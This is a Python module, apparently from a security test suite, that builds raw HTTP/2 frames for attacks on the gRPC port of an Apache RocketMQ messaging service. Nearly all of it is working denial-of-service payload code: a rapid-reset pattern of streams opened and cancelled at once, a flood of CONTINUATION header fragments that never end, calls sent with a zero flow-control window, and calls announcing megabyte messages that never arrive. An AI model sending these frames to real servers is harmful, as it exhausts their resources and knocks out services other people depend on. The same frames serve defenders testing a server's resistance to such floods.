"""Frames of HTTP/2 as bytes, for attacks on the gRPC port: headers without compression, and messages of gRPC."""

from __future__ import annotations

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4  # a setting
CANCEL = struct.pack(">I", 8)
SERVICE = "/apache.rocketmq.v2.MessagingService/"


def frame(kind: int, flags: int = 0, stream: int = 0, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data))[1:] + struct.pack(">BBI", kind, flags, stream) + data


def literal(name: str, value: str) -> bytes:
    """Return a header without compression."""

    def text(raw: bytes) -> bytes:
        assert len(raw) < 127 + 128
        return (bytes([len(raw)]) if len(raw) < 127 else b"\x7f" + bytes([len(raw) - 127])) + raw

    return b"\x00" + text(name.encode()) + text(value.encode())


def headers(path: str = f"{SERVICE}SendMessage", **others: str) -> bytes:
    """Return the headers of a call; `others` add to them, or replace some."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x"}
    fields |= {"content-type": "application/grpc", "te": "trailers", "x-mq-client-id": "hostile"}
    fields |= {name.replace("_", "-"): value for name, value in others.items()}
    return b"".join(literal(name, value) for name, value in fields.items())


def prefix(size: int, is_compressed: bool = False) -> bytes:
    """Return the prefix of a message."""
    return struct.pack(">BI", is_compressed, size)


def call(stream: int, message: bytes = b"", method: str = "SendMessage") -> bytes:
    """Return a complete call."""
    body = frame(DATA, END_STREAM, stream, prefix(len(message)) + message)
    return frame(HEADERS, END_HEADERS, stream, headers(SERVICE + method)) + body


def reset_calls(first: int, count: int) -> bytes:
    """Return calls that are cancelled at once."""
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, headers()) + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in range(first, first + 2 * count, 2)
    )


def header_fragments(count: int) -> bytes:
    """Return headers of a call that do not end."""
    return frame(HEADERS, 0, 1, headers()) + frame(CONTINUATION, 0, 1, literal("x", "y") * 50) * count


def unread_calls(count: int) -> bytes:
    """Return calls whose replies must not be sent."""
    window = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    return window + b"".join(call(stream) for stream in range(1, 2 * count, 2))


def unfinished_calls(count: int, size: int = 1 << 20) -> bytes:
    """Return calls whose messages do not arrive."""
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, headers()) + frame(DATA, 0, stream, prefix(size))
        for stream in range(1, 2 * count, 2)
    )
